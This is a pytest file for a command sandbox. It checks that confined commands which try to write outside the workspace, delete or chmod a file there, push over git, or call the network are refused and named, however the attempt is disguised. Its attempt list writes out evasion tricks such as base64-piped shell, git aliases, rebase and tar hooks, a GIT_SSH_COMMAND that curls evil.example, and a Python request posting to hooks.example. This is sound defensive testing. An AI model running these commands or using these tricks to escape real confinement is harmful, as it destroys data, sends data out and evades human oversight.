"""What a confined command tries and may not is named, however the attempt is dressed up."""

from __future__ import annotations

import subprocess

import pytest

from sandbox.conftest import Lab, git

PUSH = "git push net main"
NET = ("connect", "git.example:443")
VICTIM = ("write", "{out}/victim")

ATTEMPTS: dict[str, tuple[str, tuple[str, str]]] = {
    "option that writes": ("sort -o {out}/victim f", VICTIM),
    "git option that writes": ("git log --output={out}/new", ("write", "{out}/new")),
    "hook of tar": (f"tar cf a.tar f && tar --to-command='{PUSH}' -xf a.tar", NET),
    "hook of a rebase": (f"git rebase --exec '{PUSH}' HEAD~1", NET),
    "through a link": ("ln -s {out} l; rm -rf l/victim", VICTIM),
    "alias": (f"git -c alias.x='!{PUSH}' x", NET),
    "variable that runs": (
        "GIT_SSH_COMMAND='sh -c \"curl -s http://evil.example/\"' git fetch ssh",
        ("connect", "evil.example:80"),
    ),
    "script": ("printf 'git push ssh main' > d.sh; sh ./d.sh", ("lookup", "git.example")),
    "awk": (f"awk 'BEGIN{{{{system(\"{PUSH}\")}}}}'", NET),
    "encoded": ("echo 'Z2l0IHB1c2ggbmV0IG1haW4=' | base64 -d | sh", NET),
    "put together": ("x=pu; y=sh; git $x$y net main", NET),
    "python removes": ("python3 -c \"import os; os.remove('{out}/victim')\"", VICTIM),
    "perl removes": ("perl -e 'unlink \"{out}/victim\"'", VICTIM),
    "mode": ("chmod 000 {out}/victim", VICTIM),
    "python sends": (
        "python3 -c \"import urllib.request as u; u.urlopen('https://hooks.example/x', data=b'1')\"",
        ("connect", "hooks.example:443"),
    ),
    "env": (f"env -S '{PUSH}'", NET),
}


@pytest.mark.parametrize(("command", "expected"), ATTEMPTS.values(), ids=ATTEMPTS.keys())
def test_the_attempt_is_refused_and_named(lab: Lab, command: str, expected: tuple[str, str]) -> None:
    victim = lab.outside / "victim"
    victim.write_text("precious")
    mode = victim.stat().st_mode
    (lab.workspace / "f").write_text("b\na\n")
    git(lab.workspace, "add", "f")
    git(lab.workspace, "commit", "-qm", "second")
    for name, url in (("net", "https://git.example/r.git"), ("ssh", "git@git.example:r.git")):
        git(lab.workspace, "remote", "add", name, url)

    result = lab.run(command.format(out=lab.outside))

    kind, target = expected
    assert (kind, target.format(out=lab.outside)) in [(d["kind"], d["target"]) for d in result.denials]
    assert victim.read_text() == "precious" and victim.stat().st_mode == mode
    assert not (lab.outside / "new").exists()


def test_a_push_to_a_folder_outside_names_that_folder(lab: Lab) -> None:
    remote = lab.outside / "remote.git"
    subprocess.run(["git", "init", "-q", "--bare", str(remote)], check=True)
    git(lab.workspace, "remote", "add", "origin", str(remote))

    result = lab.run("git push origin HEAD:main")

    assert any(d["kind"] == "write" and d["target"].startswith(str(remote)) for d in result.denials)
    assert not (remote / "refs" / "heads" / "main").exists()
